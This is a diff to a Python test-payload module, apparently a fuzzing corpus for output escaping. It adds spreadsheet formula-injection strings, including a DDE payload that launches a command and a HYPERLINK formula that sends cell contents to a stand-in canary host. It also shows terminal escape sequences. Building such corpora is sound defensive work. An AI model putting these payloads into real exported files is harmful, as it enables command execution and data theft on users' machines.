@@ -1,4 +1,4 @@
-"""Text that tries to be more than text: scripts, requests and breakouts of each known family, 250 of them.
+"""Text that tries to be more than text: scripts, requests and breakouts of each known family.
 
 Each that runs calls `alert` or sets `window.hit`; each that fetches asks canary.invalid, which does not exist.
 """
@@ -92,6 +92,16 @@ OTHERS = (
     "\x1b]0;owned\x07", "\x1b[2J\x1b[H", "\x1b]8;;http://canary.invalid/\x07x\x1b]8;;\x07", "\x9b31m", "\x1bP+q544e\x1b\\", "\x08\x08\x08", "\rPublished: all is well",
     "[red]x[/red]", "[link=http://canary.invalid/]x[/link]", "[/]", "[bold", ":warning:", "<w:instrText>HYPERLINK</w:instrText>", "]]></w:t>", "\ud7ff\uffff", "\x0b\x0c\x1f",
 )  # fmt: skip
+FORMULAS = (
+    *(
+        before + formula
+        for before, formula in product(
+            ("", " ", "'", "''", ";", "x;", 'x;"', "x;''", "x\t", "x\n", "x\r\n", '"', "\u00a0", "\t", "\n", '",', "1;"),
+            ("=1+1", "+1+1", "-1+1", "@SUM(1)", "=cmd|'/C calc'!A0", "=HYPERLINK(\"http://canary.invalid/\"&A1)", "\uff1d1+1"),
+        )
+    ),
+    "=", "+", "-", "@", "\t", "-0.5x", "- none", "+-1", "--1", "-1;-1", "-0.5;=1+1", "\uff0b1", "\uff0d1", "\uff20x", "=\u20281",
+)  # fmt: skip
 FAMILIES = {
     "scripts": SCRIPTS,
     "event handlers": HANDLERS,
@@ -102,6 +112,7 @@ FAMILIES = {
     "entities and encodings": ENTITIES,
     "templates": TEMPLATES,
     "Markdown": MARKDOWN,
+    "formulas": FORMULAS,
     "typesetters, spreadsheets, terminals": OTHERS,
 }
 PAYLOADS = tuple(dict.fromkeys(one for family in FAMILIES.values() for one in family))
